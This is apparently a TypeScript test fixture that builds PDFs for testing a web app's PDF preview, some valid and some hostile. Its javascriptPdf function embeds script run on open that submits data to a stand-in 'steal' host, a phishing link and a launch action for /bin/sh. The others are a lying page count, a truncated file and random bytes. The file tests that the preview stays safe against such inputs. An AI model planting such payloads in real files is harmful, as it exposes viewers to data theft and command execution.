/**
 * PDFs written byte by byte for the tests of the run page's PDF preview: a small valid one (with a
 * correct cross-reference table), and hostile ones: JavaScript on open with a link out, a page
 * count in the millions (a lie) or in the thousands (real), one cut short, one that is not a PDF.
 */

/** A PDF from its objects (numbered from 1, object 1 the catalog), with a cross-reference table. */
export function pdfFromObjects(objects: readonly string[], trailerExtra = ''): Buffer {
  const parts: string[] = ['%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n'];
  const offsets: number[] = [];
  let length = Buffer.byteLength(parts[0], 'latin1');
  objects.forEach((body, i) => {
    offsets.push(length);
    const obj = `${i + 1} 0 obj\n${body}\nendobj\n`;
    parts.push(obj);
    length += Buffer.byteLength(obj, 'latin1');
  });
  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(xref, `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${length}\n%%EOF\n`);
  return Buffer.from(parts.join(''), 'latin1');
}

function stream(content: string): string {
  return `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;
}

/** A page's drawing: a title, a bar chart, and the page number. */
function pageContent(title: string, page: number): string {
  const bars = [0.9, 0.55, 0.35, 0.22, 0.15].map((h, i) => `0.2 0.4 ${0.5 + i * 0.1} rg ${90 + i * 90} 200 60 ${Math.round(h * 400)} re f`).join('\n');
  return `BT /F1 28 Tf 72 700 Td (${title}) Tj ET\n${bars}\n0 0 0 RG 2 w 80 195 m 540 195 l S\nBT /F1 12 Tf 280 60 Td (page ${page}) Tj ET`;
}

/** A valid PDF of `pages` Letter pages, drawn with Helvetica and filled rectangles. */
export function simplePdf(title = 'Validation loss', pages = 1): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => `${4 + i * 2} 0 R`).join(' ');
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'];
  for (let i = 0; i < pages; i++) {
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + i * 2} 0 R >>`);
    objects.push(stream(pageContent(title, i + 1)));
  }
  return pdfFromObjects(objects);
}

/**
 * A PDF that runs JavaScript when opened (OpenAction and a document-level script) and whose page
 * carries a link annotation to a web address and a launch action: drawn, none of it may act.
 */
export function javascriptPdf(): Buffer {
  const js = 'app.alert("pwned"); this.submitForm("http://example.invalid/steal"); document.title = "pwned";';
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >> >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R /Annots [7 0 R 8 0 R] >>',
    stream(pageContent('Scripted report', 1)),
    `<< /S /JavaScript /JS (${js.replace(/[()\\]/g, (c) => `\\${c}`)}) >>`,
    '<< /Type /Annot /Subtype /Link /Rect [72 690 400 730] /Border [0 0 0] /A << /S /URI /URI (http://example.invalid/phish) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 100 400 140] /Border [0 0 0] /A << /S /Launch /F (/bin/sh) >> >>',
  ]);
}

/** A PDF whose page tree claims 50 million pages (one real one). */
export function hugePageCountPdf(): Buffer {
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 50000000 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
    stream(pageContent('Fifty million pages', 1)),
  ]);
}

/** A PDF of `pages` real pages sharing one drawing (a thousand pages in about 150 KB). */
export function manyPagesPdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => `${5 + i} 0 R`).join(' ');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    stream(pageContent('One of many pages', 0)),
  ];
  for (let i = 0; i < pages; i++) objects.push('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>');
  return pdfFromObjects(objects);
}

/** The first `fraction` of a valid PDF: no cross-reference table, no trailer, a page cut off. */
export function truncatedPdf(fraction = 0.4): Buffer {
  const whole = simplePdf('Cut short', 3);
  return whole.subarray(0, Math.floor(whole.length * fraction));
}

/** Bytes that are not a PDF, under a `.pdf` name. */
export function garbagePdf(bytes = 4096): Buffer {
  let x = 0x2545;
  return Buffer.from(Array.from({ length: bytes }, () => {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    return x & 0xff;
  }));
}

/** A `%PDF-` header followed by bytes that are no PDF structure at all. */
export function headerThenGarbage(): Buffer {
  return Buffer.concat([Buffer.from('%PDF-1.7\n', 'latin1'), garbagePdf(8192)]);
}
